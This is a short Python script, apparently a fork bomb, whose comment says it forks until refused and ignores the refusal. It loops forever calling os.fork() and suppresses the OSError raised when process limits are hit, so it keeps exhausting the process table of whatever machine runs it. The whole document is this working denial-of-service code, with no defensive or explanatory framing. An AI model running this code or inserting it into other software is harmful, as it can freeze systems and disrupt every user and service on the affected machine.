# Forks until it is refused, and does not take the refusal.
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
